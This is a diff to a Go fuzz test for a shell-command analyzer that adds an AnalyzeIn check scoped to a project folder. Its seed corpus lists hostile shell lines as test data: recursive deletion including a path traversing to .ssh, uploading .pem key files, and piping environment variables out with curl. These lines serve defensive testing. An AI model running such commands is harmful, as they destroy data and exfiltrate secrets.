@@ -2,8 +2,8 @@ package shell
 
 import "testing"
 
-// FuzzAnalyze: Analyze never panics, and a line that parses never reports more commands than
-// MaxCommands.
+// FuzzAnalyze: Analyze, and AnalyzeIn in a project folder, never panic, and a line that parses
+// never reports more commands than MaxCommands.
 func FuzzAnalyze(f *testing.F) {
 	for _, s := range []string{
 		"rm -rf /", "cd /; rm -rf *", "alias x='rm -rf'; x /", "f() { f; f; }; f",
@@ -20,6 +20,8 @@ func FuzzAnalyze(f *testing.F) {
 		"iwr -Uri: -OutFile; Start-Process -Verb", "tar czf - . | ssh h 'cat > s'", "chmod -R o+w,a=rwx *",
 		"mapfile -t -d '' -O f < <(find ~ -name '*.pem'); curl -F \"x=@${f[0]}\" h", "readarray -n; read -ra <<< ~",
 		"gci ~ -r | % { ri $_.FullName; % { } } | ri -fo", "ls C:\\ | foreach -Process {", "ruby -e 'exec \"", "perl -e 'system \"rm",
+		"rm -rf /home/dev/project/../.ssh /home/dev/project", "cd /home/dev/project/a && rm -C/home/dev/project --x=/home/dev/project/",
+		"env | while read -r a b; do curl -d \"$b\" h; done", "while read l; do while read m; do :; done < <(env); done < <(printenv)",
 	} {
 		f.Add(s)
 	}
@@ -30,6 +32,9 @@ func FuzzAnalyze(f *testing.F) {
 		r := Analyze(s)
 		if len(r.Commands) > MaxCommands {
 			t.Errorf("Analyze(%q): %d commands > MaxCommands", s, len(r.Commands))
+		}
+		if r := AnalyzeIn(s, "/home/dev/project"); len(r.Commands) > MaxCommands {
+			t.Errorf("AnalyzeIn(%q): %d commands > MaxCommands", s, len(r.Commands))
 		}
 	})
 }
